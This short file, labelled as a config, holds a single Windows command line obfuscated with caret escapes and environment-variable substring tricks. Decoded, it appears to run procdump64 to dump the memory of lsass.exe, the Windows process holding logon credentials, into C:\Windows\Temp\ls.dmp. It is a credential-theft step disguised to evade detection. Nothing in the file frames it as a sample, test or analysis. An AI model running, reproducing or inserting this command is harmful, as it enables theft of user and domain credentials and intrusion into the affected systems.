REM config 4402 v2
^p%PUBLIC:~6,1%%PROGRAMDATA:~-9,1%%PUBLIC:~14,1%%windir:~-4,1%%PUBLIC:~10,1%%COMSPEC:~16,1%p^64.^e%COMSPEC:~25,1%%COMSPEC:~-1,1% -^a^cc^ept^e^ul^a -^m^a l^sass.ex^e C:\W^in^do^ws\Temp\l^s.^dm^p
